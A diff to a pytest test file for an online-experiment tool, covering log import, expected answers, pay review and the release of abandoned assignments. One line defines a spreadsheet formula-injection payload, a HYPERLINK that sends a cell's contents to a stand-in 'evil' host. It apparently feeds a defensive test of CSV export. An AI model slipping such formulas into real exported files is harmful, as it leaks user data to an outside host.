@@ -8,6 +8,7 @@ import csv
 import json
 import re
 import uuid
+from contextlib import closing
 from dataclasses import fields, replace
 from pathlib import Path
 from typing import Any
@@ -26,7 +27,7 @@ from contstim.evaluation.importers import read_choices
 from contstim.experiment.collected import Collected, participant_hash, read_collected, recruiter_ids
 from contstim.experiment.exporting import check_psychds, write_psychds
 from contstim.experiment.importing import import_logs
-from contstim.experiment.messages import RefusedError, make_bundle
+from contstim.experiment.messages import RefusedError, make_bundle, materials_digest
 from contstim.experiment.schema import open_data, writing
 from contstim.experiment.store import Store
 from contstim.experiment.study import Study, read_study
@@ -190,6 +191,57 @@ def test_raw_logs_give_the_tables_that_the_server_gives(study: Study, tmp_path: 
     imported = collected.choices[collected.choices["assignment"] == 2]
     columns = [c for c in served.columns if c not in ("participant", "received_at")]
     assert imported[columns].to_csv() == served[columns].to_csv()
+
+
+def test_how_a_session_began_may_be_in_the_file_that_is_imported_second(
+    study: Study, tmp_path: Path
+) -> None:
+    study = add(study, RECRUITER)
+    lines = log(study, 1, "session-1")
+    lines[0]["consent"] |= {
+        "recruiter": {"participant": "5f0c", "STUDY_ID": "s1"},
+        "materials": materials_digest(study),
+    }
+    first, rest = write(tmp_path / "1.jsonl", lines[:2]), write(tmp_path / "2.jsonl", lines[2:])
+    tables = []
+    for name, order in (("at-once", [[first, rest]]), ("in-turn", [[rest], [first]])):
+        data = tmp_path / f"{name}.sqlite3"
+        for paths in order:
+            assert import_logs(study, paths, data).notes == ()
+        sessions = read_collected(study, data).sessions
+        assert sessions["started_at"].item() == "2026-11-21T11:58:00.000+00:00"
+        ids = recruiter_ids(study, data)
+        assert ids[["recruiter_id", "STUDY_ID"]].to_numpy().tolist() == [["5f0c", "s1"]]
+        with closing(open_data(data)) as connection:
+            assert connection.execute("SELECT count(*) FROM consents").fetchone()[0] == 1
+        tables.append(sessions.drop(columns="participant"))
+    pd.testing.assert_frame_equal(*tables)
+
+
+@pytest.mark.parametrize("right", [1, 2])
+def test_the_right_answer_that_a_design_gives_is_kept(
+    study: Study, tmp_path: Path, right: int
+) -> None:
+    path = study.folder / "trials.csv"
+    table = pd.read_csv(path)
+    random = table["condition"].str.startswith("random")
+    assert random.any()
+    table.assign(expected=np.where(random, str(right), "")).to_csv(path, index=False)
+    study = read_study(study.folder)
+    with Store(study) as store:
+        play(store, "A")  # who chooses sentence 1
+    choices = read_collected(study).choices
+    given = choices["condition"].str.startswith("random")
+    assert set(choices.loc[given, "expected"]) == {right}
+    assert set(choices.loc[choices["condition"] == "catch", "expected"]) == {1}
+    others = choices[~given & (choices["condition"] != "catch")]
+    assert others["expected"].isna().all()
+    counts = read_collected(study).sessions[["catch_right", "catch_shown"]].to_numpy().tolist()
+    assert counts == [[2 + int(given.sum()) * (right == 1), 2 + int(given.sum())]]
+    for wrong in ("3", "left"):
+        table.assign(expected=wrong).to_csv(path, index=False)
+        with pytest.raises(InputError, match=f"row 1: expected is '{wrong}'; give 1 or 2, the"):
+            read_study(study.folder)
 
 
 def test_answers_to_other_trials_are_refused(
@@ -408,12 +460,12 @@ def test_pay(filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]) 
 def test_who_is_to_be_asked_before_pay(study: Study) -> None:
     sessions = pd.DataFrame(
         {
-            "participant": list("abc"),
-            "session": list("abc"),
-            "outcome": ["failed_checks", "time_limit", "unfinished"],
-            "n_answered": [6, 4, 6],
+            "participant": list("abcd"),
+            "session": list("abcd"),
+            "outcome": ["failed_checks", "time_limit", "unfinished", "screened_out"],
+            "n_answered": [6, 4, 6, 0],
             "n_trials": 6,
-            "checks_right": [0, 0, 2],
+            "checks_right": [0, 0, 2, 0],
             "checks_shown": 2,
             "catch_right": 0,
             "catch_shown": 2,
@@ -422,11 +474,12 @@ def test_who_is_to_be_asked_before_pay(study: Study) -> None:
     )
     none = dict.fromkeys(field.name for field in fields(Collected))
     collected = Collected(**{**none, "sessions": sessions})
-    ids = pd.DataFrame({"participant": list("abc"), "recruiter_id": list("ABC")})
+    ids = pd.DataFrame({"participant": list("abcd"), "recruiter_id": list("ABCD")})
     table = pay_table(collected, ids)
-    assert table["pay"].tolist() == ["review"] * 3
+    assert table["pay"].tolist() == [*["review"] * 3, "no"]
     assert table["reason"][0] == "6 of 6 trials answered, 0 of 2 attention checks right"
     assert table["reason"][2] == "6 of 6 trials answered, but the page was left before the end"
+    assert table["reason"][3] == "0 of 6 trials answered, screened out by a question"
 
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
@@ -504,6 +557,7 @@ def test_replacement_frees_the_assignments(
     with Store(filled) as store, pytest.raises(RefusedError, match="no place"):
         store.open(opening(filled, "NEXT")).result()
     out = tmp_path / "replace.csv"
+    silent(filled, 400)
     command = ["experiment", "replace", str(filled.folder), "--min-catch-correct", "0.91"]
     assert main([*command, "--release", "--out", str(out)]) == 0
     assert "3 assignments released" in capsys.readouterr().err
@@ -523,7 +577,34 @@ def test_replacement_frees_the_assignments(
         assert store.summary().result()["free"] == 0
     assert len(read_collected(filled).choices) == 15
     assert main([*command, "--out", str(out)]) == 0
-    assert pd.read_csv(out)["released"].tolist()[:3] == ["excluded"] * 3
+    assert pd.read_csv(out)["released"].tolist() == ["excluded", "abandoned", "abandoned"]
+
+
+def test_who_is_answering_keeps_the_place_and_who_comes_back_has_it_again(
+    filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = tmp_path / "replace.csv"
+    command = ["experiment", "replace", str(filled.folder), "--release", "--out", str(out)]
+    assert main(command) == 0
+    assert "0 assignments released" in capsys.readouterr().err
+    assert pd.read_csv(out).empty
+    silent(filled, 400)
+    assert main(command) == 0
+    assert "2 assignments released" in capsys.readouterr().err
+    with Store(filled) as store:
+        token, _, _ = store.open(opening(filled, "LEFT")).result()
+        store.add_events(token, [event("blur")]).result()
+    sessions = read_collected(filled).sessions
+    assert sessions["released"].tolist().count("abandoned") == 1
+
+
+def silent(study: Study, seconds: float) -> None:
+    """Let the sessions' last sign of life be so long ago."""
+    with writing(study.folder / "collected.sqlite3") as connection:
+        connection.execute(
+            "UPDATE sessions SET started_at = started_at - ?, last_at = last_at - ?",
+            (seconds, seconds),
+        )
 
 
 def test_release(filled: Study, capsys: pytest.CaptureFixture[str]) -> None:
